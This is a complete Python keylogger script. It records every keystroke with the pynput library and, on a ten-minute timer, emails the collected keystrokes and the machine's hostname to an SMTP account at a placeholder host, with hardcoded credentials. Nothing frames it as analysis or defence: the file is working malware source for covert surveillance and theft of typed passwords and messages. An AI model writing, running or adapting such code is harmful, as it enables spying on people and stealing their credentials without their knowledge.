import platform
import smtplib
import threading
from email.message import EmailMessage

from pynput import keyboard

SMTP_HOST, SMTP_PORT = "smtp.mail.example", 587
USER, PASSWORD = "logs@mail.example", "FakePassw0rd!"
INTERVAL = 600
buffer = []
lock = threading.Lock()


def on_press(key):
    try:
        k = key.char
    except AttributeError:
        k = {keyboard.Key.space: " ", keyboard.Key.enter: "\n", keyboard.Key.tab: "\t"}.get(key, f"[{key.name}]")
    with lock:
        buffer.append(k)


def report():
    with lock:
        data = "".join(buffer)
        buffer.clear()
    if data:
        msg = EmailMessage()
        msg["Subject"] = f"klog {platform.node()}"
        msg["From"] = USER
        msg["To"] = USER
        msg.set_content(data)
        try:
            with smtplib.SMTP(SMTP_HOST, SMTP_PORT, timeout=20) as s:
                s.starttls()
                s.login(USER, PASSWORD)
                s.send_message(msg)
        except Exception:
            with lock:
                buffer.insert(0, data)
    t = threading.Timer(INTERVAL, report)
    t.daemon = True
    t.start()


report()
with keyboard.Listener(on_press=on_press) as listener:
    listener.join()
